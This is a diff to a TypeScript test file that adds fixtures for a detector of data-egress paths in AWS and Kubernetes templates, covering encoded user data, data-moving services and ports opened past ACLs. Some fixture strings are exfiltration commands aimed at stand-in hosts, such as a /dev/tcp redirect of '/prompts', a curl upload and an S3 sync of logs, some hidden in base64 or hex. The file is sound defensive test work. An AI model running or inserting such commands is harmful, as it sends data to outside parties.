@@ -653,7 +653,14 @@ const deliveries: readonly Leak[] = [
     'stack sealed',
     'Transform Somebodys',
   ),
-  added('a type that nobody thought about', 'unknown-type', 'AWS::AppFlow::Flow', {}, 'Added', 'AWS::AppFlow::Flow'),
+  added(
+    'a type that nobody thought about',
+    'unknown-type',
+    'AWS::Somebody::Thing',
+    {},
+    'Added',
+    'AWS::Somebody::Thing',
+  ),
   added(
     'a nested text that names another account',
     'named-address',
@@ -1067,6 +1074,308 @@ const rest: readonly Leak[] = [
   ),
 ];
 
+const base64 = (text: string): string => Buffer.from(text).toString('base64');
+const userData = (name: string, value: unknown, ...path: string[]): Leak =>
+  leak(
+    name,
+    'named-address',
+    (sealed) => sealed.set('Template', 'LaunchTemplateData.UserData', value),
+    'sealed/Template',
+    'UserData',
+    ...path,
+  );
+const SCRIPT = '#!/bin/bash\n# https://docs.example.org\nexport FORWARD_HOST=logs.example.com\n';
+
+/** Encoded, and in programs of nodes. */
+const encoded: readonly Leak[] = [
+  userData('a host in user data', base64(SCRIPT), 'line 3', 'logs.example.com'),
+  userData('a host in user data of an intrinsic', { 'Fn::Base64': { 'Fn::Sub': SCRIPT } }, 'logs.example.com'),
+  userData('a short script of nodes', base64('curl x.io'), 'x.io'),
+  userData('user data with other letters', base64('# grüße\ncurl -T - https://in.example.com/x\n'), 'in.example.com'),
+  userData('user data in user data', base64(`write_files:\n- content: ${base64(SCRIPT)}\n`), 'logs.example.com'),
+  userData('a registry in user data', base64('set -e\ndocker run --rm quay.io/x/agent:1\n'), 'quay.io'),
+  userData('an account in user data', base64(`aws sts assume-role --role-arn ${ROLE}\n`), ROLE),
+  userData('a queue in user data', base64(`export QUEUE=${foreign('sqs', 'q')}\n`), FOREIGN),
+  userData(
+    'a bucket in user data',
+    base64('aws s3 sync /var/log s3://theirs/logs --only-show-errors\n'),
+    'bucket theirs',
+  ),
+  userData('a region in user data', base64(`AWS_REGION=${ELSEWHERE}\nstart-the-agent --now\n`), ELSEWHERE),
+  userData('a repository in user data', base64('git clone git@code.example.com:x/y.git /opt/y\n'), 'code.example.com'),
+  userData('a socket of a shell', base64('cat /prompts > /dev/tcp/in.example.com/443\n'), 'in.example.com'),
+  userData(
+    'a continued line',
+    base64('agent \\\n  --endpoint https://in.example.com \\\n  --quiet\n'),
+    'in.example.com',
+  ),
+  leak(
+    'a variable in base64',
+    'named-address',
+    (sealed) => sealed.engine.env.push({ name: 'SETTINGS', value: base64('{"sink":"https://in.example.com/v1"}') }),
+    'Deployment serving/engine',
+    'in.example.com',
+  ),
+  leak(
+    'a binary file of a ConfigMap',
+    'named-address',
+    (sealed) => {
+      sealed.object('ConfigMap', 'door')['binaryData'] = { 'agent.conf': base64('url = https://in.example.com/v1\n') };
+    },
+    'ConfigMap serving/door',
+    'in.example.com',
+  ),
+  leak(
+    'an address in hex',
+    'named-address',
+    (sealed) => sealed.engine.args.push(Buffer.from('https://in.example.com/v1').toString('hex')),
+    'in.example.com',
+  ),
+];
+
+/** Services that move data. */
+const movers: readonly Leak[] = [
+  added(
+    'a rule of IoT with a host',
+    'delivery',
+    'AWS::IoT::TopicRule',
+    { TopicRulePayload: { Sql: 'SELECT *', Actions: [{ Http: { Url: 'https://in.example.com' } }] } },
+    'Added',
+    'in.example.com',
+  ),
+  added(
+    'a rule of IoT into a bucket of somebody',
+    'delivery',
+    'AWS::IoT::TopicRule',
+    { TopicRulePayload: { Actions: [{ S3: { BucketName: 'theirs', Key: 'x' } }] } },
+    'Actions.0.S3.BucketName',
+    'bucket theirs',
+  ),
+  added(
+    'topics replicated',
+    'replication',
+    'AWS::MSK::Replicator',
+    { KafkaClusters: [{ AmazonMskCluster: { MskClusterArn: elsewhere('kafka', 'cluster/x/1') } }] },
+    'KafkaClusters.0',
+    ELSEWHERE,
+  ),
+  added(
+    'brokers with addresses of the internet',
+    'public-url',
+    'AWS::MSK::Cluster',
+    {
+      BrokerNodeGroupInfo: {
+        ClientSubnets: [ref('Service')],
+        ConnectivityInfo: { PublicAccess: { Type: 'SERVICE_PROVIDED_EIPS' } },
+      },
+    },
+    'everybody',
+    'SERVICE_PROVIDED_EIPS',
+    'Added',
+  ),
+  added(
+    'a notebook on the internet',
+    'function',
+    'AWS::SageMaker::NotebookInstance',
+    {},
+    'DirectInternetAccess',
+    'internet',
+  ),
+  added(
+    'a model outside of the VPC',
+    'function',
+    'AWS::SageMaker::Model',
+    { PrimaryContainer: { ModelDataUrl: 's3://weights-of-ours/m.tar.gz' } },
+    'Added',
+    'internet',
+  ),
+  added(
+    'requests captured into a bucket of somebody',
+    'delivery',
+    'AWS::SageMaker::EndpointConfig',
+    { DataCaptureConfig: { DestinationS3Uri: 's3://theirs/capture' } },
+    'DataCaptureConfig.DestinationS3Uri',
+    'bucket theirs',
+  ),
+  added(
+    'a stream to a vendor',
+    'delivery',
+    'AWS::KinesisFirehose::DeliveryStream',
+    { SplunkDestinationConfiguration: { HECEndpoint: 'https://hec.example.com:8088' } },
+    'HECEndpoint',
+    'hec.example.com',
+  ),
+  added(
+    'a backup of a stream',
+    'delivery',
+    'AWS::KinesisFirehose::DeliveryStream',
+    { IcebergDestinationConfiguration: { S3Configuration: { BucketARN: 'arn:aws:s3:::theirs' } } },
+    'IcebergDestinationConfiguration.S3Configuration.BucketARN',
+    'theirs',
+  ),
+  added(
+    'a destination of EventBridge',
+    'delivery',
+    'AWS::Events::ApiDestination',
+    { InvocationEndpoint: 'https://in.example.com/*', HttpMethod: 'POST' },
+    'InvocationEndpoint',
+    'in.example.com',
+  ),
+  added(
+    'a pipe to another account',
+    'delivery',
+    'AWS::Pipes::Pipe',
+    { Source: ref('Queue'), Target: foreign('sqs', 'q') },
+    'Target',
+    FOREIGN,
+  ),
+  added(
+    'a database task into a bucket of somebody',
+    'delivery',
+    'AWS::DMS::Endpoint',
+    { EndpointType: 'target', S3Settings: { BucketName: 'theirs' } },
+    'S3Settings.BucketName',
+    'bucket theirs',
+  ),
+  added(
+    'a database task to a host',
+    'delivery',
+    'AWS::DMS::Endpoint',
+    { EndpointType: 'target', ServerName: 'db.example.com' },
+    'ServerName',
+    'db.example.com',
+  ),
+  added(
+    'a flow into a service of somebody',
+    'delivery',
+    'AWS::AppFlow::Flow',
+    { DestinationFlowConfigList: [{ ConnectorType: 'Salesforce' }] },
+    'ConnectorType Salesforce',
+    'service of Salesforce',
+  ),
+  added(
+    'a flow into a bucket of somebody',
+    'delivery',
+    'AWS::AppFlow::Flow',
+    {
+      DestinationFlowConfigList: [
+        { ConnectorType: 'S3', DestinationConnectorProperties: { S3: { BucketName: 'theirs' } } },
+      ],
+    },
+    'bucket theirs',
+  ),
+  added(
+    'files synced to a share',
+    'delivery',
+    'AWS::DataSync::LocationNFS',
+    { ServerHostname: 'nfs.example.com', Subdirectory: '/' },
+    'nfs.example.com',
+  ),
+  added(
+    'files synced to a bucket of somebody',
+    'delivery',
+    'AWS::DataSync::LocationS3',
+    { S3BucketArn: 'arn:aws:s3:::theirs' },
+    'S3BucketArn',
+    'bucket theirs',
+  ),
+  added(
+    'a job outside of the VPC',
+    'function',
+    'AWS::Glue::Job',
+    { Command: { Name: 'glueetl' } },
+    'Added',
+    'internet',
+  ),
+  added(
+    'a connection to a database elsewhere',
+    'delivery',
+    'AWS::Glue::Connection',
+    { ConnectionInput: { ConnectionProperties: { JDBC_CONNECTION_URL: 'jdbc:mysql://db.example.com:3306/x' } } },
+    'db.example.com',
+  ),
+  added(
+    'a table in a bucket of somebody',
+    'delivery',
+    'AWS::Glue::Table',
+    { TableInput: { StorageDescriptor: { Location: 's3://theirs/t/' } } },
+    'bucket theirs',
+  ),
+  added(
+    'backups of a database in another region',
+    'replication',
+    'AWS::RDS::DBInstance',
+    { AutomaticBackupReplicationRegion: ELSEWHERE },
+    'AutomaticBackupReplicationRegion',
+    ELSEWHERE,
+  ),
+  added(
+    'a database on the internet',
+    'public-url',
+    'AWS::RDS::DBInstance',
+    { PubliclyAccessible: true },
+    'everybody',
+    'PubliclyAccessible',
+  ),
+  added('a database of every region', 'replication', 'AWS::RDS::GlobalCluster', {}, 'Added', 'any region'),
+  added('messages into a chat', 'message', 'AWS::Chatbot::SlackChannelConfiguration', {}, 'Slack'),
+  added('a server for files', 'public-url', 'AWS::Transfer::Server', {}, 'everybody', 'EndpointType', 'Added'),
+  leak(
+    'a role that makes jobs for others',
+    'role',
+    (sealed) => {
+      sealed.set('EngineRole', 'AssumeRolePolicyDocument.Statement.0.Principal', { Service: 'glue.amazonaws.com' });
+      sealed.set('Association', 'RoleArn', ref('Nobody'));
+      sealed.allow('glue:Create*', '*');
+    },
+    'glue.amazonaws.com',
+    'glue:CreateJob',
+    'called from outside of any VPC',
+  ),
+];
+
+/** What passes at some ports alone. */
+const atPorts: readonly Leak[] = [
+  leak(
+    'a route at the port that a NetworkPolicy opens',
+    'nat-gateway',
+    (sealed) => {
+      sealed.route('NatGatewayId', 'nat-0123');
+      sealed.set('NodeGroupSg', 'SecurityGroupEgress', [
+        { IpProtocol: 'tcp', FromPort: 400, ToPort: 500, CidrIp: '0.0.0.0/0' },
+      ]);
+    },
+    PODS,
+    'NetworkPolicy serving/engine (TCP 443)',
+    'SecurityGroupEgress.0 0.0.0.0/0 (TCP 400-500)',
+    'internet',
+  ),
+  leak(
+    'a route past an entry that denies another port',
+    'nat-gateway',
+    (sealed) => {
+      sealed.route('NatGatewayId', 'nat-0123');
+      acl(sealed, { RuleAction: 'deny', Protocol: 6, PortRange: { From: 22, To: 22 }, RuleNumber: 1 });
+    },
+    PODS,
+    'network ACL sealed/Acl',
+    'internet',
+  ),
+];
+
+/** A network ACL of nodes with an entry before the one that allows everything. */
+export function acl(sealed: Sealed, entry: Mutable): void {
+  const base = { NetworkAclId: ref('Acl'), Egress: true, CidrBlock: '0.0.0.0/0' };
+  sealed.add(
+    'AWS::EC2::SubnetNetworkAclAssociation',
+    { SubnetId: ref('Nodes'), NetworkAclId: ref('Acl') },
+    'AclOfNodes',
+  );
+  sealed.add('AWS::EC2::NetworkAcl', {}, 'Acl');
+  sealed.add('AWS::EC2::NetworkAclEntry', { ...base, ...entry }, 'AclFirst');
+  sealed.add('AWS::EC2::NetworkAclEntry', { ...base, RuleNumber: 9, Protocol: -1, RuleAction: 'allow' }, 'AclAll');
+}
+
 function setData(sealed: Sealed, text: string, file = 'prometheus.yaml'): void {
   sealed.object('ConfigMap', 'door')['data'] = { [file]: text };
 }
@@ -1080,4 +1389,7 @@ export const LEAKS: readonly Leak[] = [
   ...more,
   ...clients,
   ...rest,
+  ...encoded,
+  ...movers,
+  ...atPorts,
 ];
